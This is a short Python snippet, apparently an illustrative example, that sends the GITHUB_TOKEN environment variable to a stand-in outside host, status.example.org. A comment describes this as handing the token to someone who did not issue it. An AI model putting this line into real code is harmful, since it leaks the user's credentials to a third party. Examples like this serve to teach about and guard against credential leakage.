import os

import requests

# The same token, handed to somebody who did not make it.
requests.get("https://status.example.org/v1/user", headers={"Authorization": "token " + os.environ["GITHUB_TOKEN"]})
